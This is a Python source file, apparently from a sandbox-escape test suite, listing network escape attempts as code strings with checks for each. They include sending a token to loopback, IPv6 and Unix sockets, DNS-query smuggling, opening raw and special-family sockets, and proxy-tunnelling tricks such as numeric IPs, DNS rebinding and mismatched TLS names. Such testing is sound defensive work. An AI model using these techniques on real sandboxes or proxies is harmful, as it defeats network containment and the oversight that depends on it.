"""Attacks over the network and over sockets."""

from __future__ import annotations

from escape_attack import attack
from escape_effects import has_socket, heard

#: Asks the box's proxy for a tunnel to the machine, under any name; without a box the service is simply called.
_TUNNEL = """
def tunnel(host, address="127.0.0.1", first=b""):
    port = scene.sockets["tcp"]
    with contextlib.suppress(OSError):
        with socket.create_connection((address, port), 30) as direct:
            direct.sendall(token.encode())
    with socket.create_connection(("127.0.0.1", scene.proxy), 30) as proxy:
        proxy.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n".encode())
        if b" 200 " in proxy.recv(4096):
            proxy.sendall(first + token.encode())
            proxy.shutdown(socket.SHUT_WR)
            proxy.recv(4096)

def hello(name):
    import ssl
    out = ssl.MemoryBIO()
    context = ssl.create_default_context()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    return out.read()
"""

NETWORK = (
    attack("call-machine", "network",
           "socket.create_connection(('127.0.0.1', scene.sockets['tcp']), 5).sendall(token.encode())", heard("tcp")),
    attack("call-machine-other-loopback", "network",
           "socket.create_connection(('0.0.0.0', scene.sockets['tcp']), 5).sendall(token.encode())", heard("tcp")),
    attack("call-machine-ipv6", "network",
           "socket.create_connection(('::1', scene.sockets['tcp6']), 5).sendall(token.encode())", heard("tcp6"),
           needs="IPv6"),
    attack("call-machine-mapped", "network", """
           s = socket.socket(socket.AF_INET6)
           s.settimeout(5)
           s.connect(("::ffff:127.0.0.1", scene.sockets["tcp"]))
           s.sendall(token.encode())
           """, heard("tcp"), needs="IPv6"),
    attack("send-datagram", "network", """
           socket.socket(type=socket.SOCK_DGRAM).sendto(token.encode(), ("127.0.0.1", scene.sockets["udp"]))
           """, heard("udp")),
    attack("ask-name-server", "network", """
           name = token.encode()
           query = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\\0\\0\\1\\0\\1"
           socket.socket(type=socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", scene.sockets["udp"]))
           """, heard("udp")),
    attack("fast-open", "network", """
           socket.socket().sendto(token.encode(), 0x20000000, ("127.0.0.1", scene.sockets["tcp"]))
           """, heard("tcp"), needs="TCP fast open"),
    attack("call-abstract-socket", "network", """
           s = socket.socket(socket.AF_UNIX)
           s.connect(scene.sockets["abstract"])
           s.sendall(token.encode())
           """, heard("abstract")),
    attack("call-socket-file", "network", """
           s = socket.socket(socket.AF_UNIX)
           s.connect(scene.sockets["path"])
           s.sendall(token.encode())
           """, heard("path")),
    attack("send-to-socket-file", "network", """
           socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(token.encode(), scene.sockets["datagrams"])
           """, heard("datagrams")),
    attack("send-by-pair", "network", """
           a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
           a.connect(scene.sockets["datagrams"])
           a.send(token.encode())
           """, heard("datagrams")),
    attack("listen-to-devices", "network", "s = socket.socket(16, socket.SOCK_RAW, 15); hold()",
           has_socket(16, protocol=15), standing=True),
    attack("netfilter-socket", "network", "s = socket.socket(16, socket.SOCK_RAW, 12); hold()",
           has_socket(16, protocol=12), standing=True, needs="netfilter"),
    attack("raw-socket", "network", "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); hold()",
           has_socket(2, 3), standing=True, user=False),
    attack("packet-socket", "network", "s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768); hold()",
           has_socket(17), standing=True, user=False),
    attack("hypervisor-socket", "network", "s = socket.socket(40, socket.SOCK_STREAM); hold()", has_socket(40),
           standing=True, needs="vsock"),
    attack("cipher-socket", "network", "s = socket.socket(38, socket.SOCK_SEQPACKET); hold()", has_socket(38),
           standing=True, needs="AF_ALG"),
    attack("bluetooth-socket", "network", "s = socket.socket(31, socket.SOCK_RAW, 1); hold()", has_socket(31),
           standing=True, user=False, needs="bluetooth"),
    attack("key-socket", "network", "s = socket.socket(15, socket.SOCK_RAW, 2); hold()", has_socket(15),
           standing=True, user=False, needs="AF_KEY"),
    attack("express-socket", "network", "s = socket.socket(44, socket.SOCK_RAW, 0); hold()", has_socket(44),
           standing=True, user=False, needs="AF_XDP"),
    attack("tunnel-to-address", "proxy", _TUNNEL + "tunnel('127.0.0.1')", heard("tcp")),
    attack("tunnel-to-number", "proxy", _TUNNEL + "tunnel('2130706433')", heard("tcp")),
    attack("tunnel-to-mapped-address", "proxy", _TUNNEL + "tunnel('[::ffff:127.0.0.1]')", heard("tcp")),
    attack("tunnel-to-unlisted-name", "proxy", _TUNNEL + "tunnel('localhost')", heard("tcp")),
    attack("tunnel-by-rebinding", "proxy", _TUNNEL + "tunnel('rebound.example.org')", heard("tcp")),
    attack("tunnel-without-tls", "proxy", _TUNNEL + "tunnel('near.example.org', '127.0.0.2')", heard("near")),
    attack("tunnel-with-other-name", "proxy",
           _TUNNEL + "tunnel('near.example.org', '127.0.0.2', hello('far.example.org'))", heard("near")),
    attack("tunnel-for-hidden-content", "proxy",
           _TUNNEL + "tunnel('near.example.org', '127.0.0.2', hello('near.example.org'))", heard("near")),
)  # fmt: skip
